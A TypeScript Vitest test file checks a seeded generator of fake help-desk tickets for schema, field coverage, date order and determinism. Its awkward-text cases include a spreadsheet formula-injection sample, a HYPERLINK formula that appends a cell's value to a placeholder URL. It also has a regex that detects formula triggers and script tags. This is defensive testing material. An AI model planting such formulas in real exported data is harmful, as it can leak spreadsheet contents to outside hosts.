// The made-up data: the same for the same seed, sensible, and with the awkward cases in it.

import { describe, expect, it } from 'vitest';
import * as z from 'zod/mini';
import { LONG_TEXT, TOO_LONG_TEXT } from '../../../sandbox/service/data/awkward-texts.ts';
import { createNetwork } from '../../../sandbox/service/data/network.ts';
import { createTickets } from '../../../sandbox/service/data/tickets.ts';
import { formatInstant, HOUR_MS } from '../../../sandbox/service/dates.ts';
import { costly } from '../../support/costly.ts';
import { instant, int, integerFrom, named, tag } from './schemas.ts';
import { makeService, NOW_MS, postImport, validImport } from './support.ts';

/** The documented fields and no others (docs/service-api.md#tickets). */
const ticketSchema = z.strictObject({
  id: int,
  titulo: z.string(),
  solicitante: z.optional(named),
  responsavel: z.optional(named),
  unidade: z.optional(named),
  departamento: z.optional(named),
  departamentoEnvio: z.optional(named),
  assunto: z.optional(named),
  etiqueta: z.optional(z.array(tag)),
  apoio: z.optional(
    z.array(z.strictObject({ pessoa: named, departamento: named, pessoaUnidade: z.boolean() })),
  ),
  tipo: integerFrom(1, 3),
  aberto: instant,
  resolvido: z.optional(instant),
  concluido: z.optional(instant),
  resolverPlanejado: z.optional(instant),
  resolverEstipulado: z.optional(instant),
  avaliacaoNota: z.optional(int),
  avaliacaoObservacao: z.optional(z.string()),
  situacao: integerFrom(1, 6),
  primeiraInteracao: z.optional(instant),
  ultimaAlteracao: z.optional(instant),
  countInteracaoPublico: z.optional(integerFrom(0)),
  countInteracaoInterno: z.optional(integerFrom(0)),
});

const ALWAYS_SENT = ['id', 'titulo', 'situacao', 'tipo', 'aberto'];

const service = makeService();
const tickets = service.tickets();

describe('tickets', () => {
  it('have the documented fields', () => {
    for (const ticket of tickets) expect(z.parse(ticketSchema, ticket)).toEqual(ticket);
    expect(tickets).toHaveLength(500);
    expect(new Set(tickets.map(({ id }) => id)).size).toBe(500);
  });

  // "absent for tickets in a queue" is stated for `responsavel` alone; the others are absent to be met with tolerance
  it('lack each optional field somewhere, and have each somewhere', () => {
    for (const field of Object.keys(ticketSchema.shape)) {
      const having = tickets.filter((ticket) => field in ticket).length;
      expect(having, field).toBeGreaterThan(0);
      if (!ALWAYS_SENT.includes(field)) expect(having, field).toBeLessThan(tickets.length);
    }
  });

  it('are in every state and of every type', () => {
    expect(new Set(tickets.map(({ situacao }) => situacao))).toEqual(new Set([1, 2, 3, 4, 5, 6]));
    expect(new Set(tickets.map(({ tipo }) => tipo))).toEqual(new Set([1, 2, 3]));
  });

  it.each([
    '=HYPERLINK("https://example.com/?q="&A1,"Clique aqui")',
    '-5',
    '+5',
    '@SUM(1)',
    "'quoted",
    '00123',
    '1/2',
    'TRUE',
    'Vitrine quebrada 😱🔥 urgente 👩🏽‍🍳',
    'coluna\tcom\ttabulação',
    'linha 1\nlinha 2\r\nlinha 3',
    '',
    LONG_TEXT,
    TOO_LONG_TEXT,
  ])('hold the text %j', (text) => {
    const texts = tickets.flatMap(({ titulo, avaliacaoObservacao }) => [titulo, avaliacaoObservacao]);
    expect(texts).toContain(text);
  });

  it('hold one text of 40,000 characters and one that no cell can hold', () => {
    expect(LONG_TEXT).toHaveLength(40_000);
    expect(TOO_LONG_TEXT.length).toBeGreaterThan(50_000);
  });

  it('hold zeros, empty lists, and lists of several', () => {
    expect(tickets.some(({ avaliacaoNota }) => avaliacaoNota === 0)).toBe(true);
    expect(tickets.some(({ countInteracaoPublico }) => countInteracaoPublico === 0)).toBe(true);
    expect(tickets.some(({ etiqueta }) => etiqueta?.length === 0)).toBe(true);
    expect(tickets.some(({ etiqueta }) => etiqueta?.length === 2)).toBe(true);
    expect(tickets.some(({ apoio }) => apoio?.some(({ pessoaUnidade }) => pessoaUnidade))).toBe(true);
  });

  it('have dates in their natural order, none of what happened after now', () => {
    const now = formatInstant(NOW_MS);
    for (const ticket of tickets) {
      const happened = [
        ticket.aberto,
        ticket.primeiraInteracao,
        ticket.resolvido,
        ticket.concluido,
        ticket.ultimaAlteracao,
      ].filter((date) => date !== undefined);
      expect(happened).toEqual([...happened].sort());
      expect(happened.every((date) => date <= now)).toBe(true);
      if (ticket.situacao === 1) expect(ticket.primeiraInteracao).toBeUndefined();
      expect(ticket.concluido !== undefined).toBe(ticket.situacao === 2);
    }
  });

  it('ask a department for one of its own subjects', () => {
    const { departments } = service.store.network;
    for (const { departamento, assunto } of tickets) {
      if (departamento === undefined || assunto === undefined) continue;
      const department = departments.find(({ name }) => name.id === departamento.id);
      expect(department?.subjects.map(({ name }) => name)).toContainEqual(assunto);
    }
  });
});

describe('seed and size', () => {
  const everything = (seed: number, size: number, wording: Parameters<typeof makeService>[0] = {}) => {
    const made = makeService({ seed, tickets: size, actionPlans: size, templates: 2, ...wording });
    const { templates, questions, assessments, answers } = made.store;
    return JSON.stringify([
      made.tickets(),
      made.actionPlans(),
      [...templates.values(), ...questions.values()],
      assessments,
      answers,
    ]);
  };

  it('make the same data again, and other data for another seed', () => {
    // So many are made anew each time, fewer are remembered.
    expect(everything(1, 1_001)).toBe(everything(1, 1_001));
    expect(everything(1, 40)).not.toBe(everything(2, 40));
  });

  it('are not changed for the services that come later', () => {
    const before = everything(3, 40);
    const changed = makeService({ seed: 3, tickets: 40, actionPlans: 40, templates: 2 });
    const [[first, second], [plan], [question]] = [
      changed.tickets(),
      changed.actionPlans(),
      changed.store.questions.values(),
    ];
    if (first === undefined || second === undefined || plan === undefined || question === undefined)
      throw new Error('there is nothing to change');
    changed.changeTicket(first.id, { titulo: 'other' }, NOW_MS, ['unidade']);
    changed.deleteTicket(second.id);
    changed.addTicket({ ...second, id: 1 });
    changed.putActionPlan({ ...plan, queSeraFeito: 'other' });
    changed.putQuestion({ ...question, title: 'other' });
    expect(postImport(changed, validImport(changed)).status).toBe(200);
    expect(changed.stored).toHaveLength(1);
    expect(everything(3, 40)).toBe(before);
  });

  it('may be nothing at all', () => {
    const empty = makeService({ tickets: 0, actionPlans: 0, templates: 0 });
    expect(empty.tickets()).toEqual([]);
    expect(empty.store.assessments).toEqual([]);
  });

  it('hold nothing that a spreadsheet would evaluate where they shall not, in Portuguese or in English', () => {
    const said = (language: 'pt' | 'en') => everything(3, 400, { templates: 5, language, isHostile: false });
    const [pt, en] = [said('pt'), said('en')];
    const textsIn = (json: string) => [...json.matchAll(/:"([^"]*)"/g)].map(([, text = '']) => text);
    const evaluated = /^[=+@'-](?!\d)|script>|#N\/A|\u202E/;
    for (const texts of [pt, en].map(textsIn))
      expect(texts.filter((text) => evaluated.test(text))).toEqual([]);
    // People and places keep their names.
    const isPortuguese = /(?<!\p{L})(?:não|para|da|em|com|unidade|loja|campanha|equipe)(?!\p{L})/iu;
    expect(textsIn(en).filter((text) => isPortuguese.test(text) && !/ – [A-Z]{2}$/.test(text))).toEqual([]);
    const ids = (json: string) => json.match(/"id":\d+/g);
    expect(ids(en)).toEqual(ids(pt));
  });

  costly('make 100,000 tickets, each with an id of its own', () => {
    const many = createTickets(1, 100_000, NOW_MS, createNetwork(1));
    expect(new Set(many.map(({ id }) => id)).size).toBe(100_000);
  });

  it('change few tickets in the same second, also right before now', () => {
    const changes = new Map<string, number>();
    for (const { ultimaAlteracao } of createTickets(1, 20_000, NOW_MS, createNetwork(1))) {
      if (ultimaAlteracao !== undefined) {
        changes.set(ultimaAlteracao, (changes.get(ultimaAlteracao) ?? 0) + 1);
      }
    }
    expect(Math.max(...changes.values())).toBeLessThanOrEqual(3);
    const lastHour = [...changes.keys()].filter((at) => Date.parse(at) > NOW_MS - HOUR_MS);
    expect(lastHour.length).toBeGreaterThan(5);
  });
});
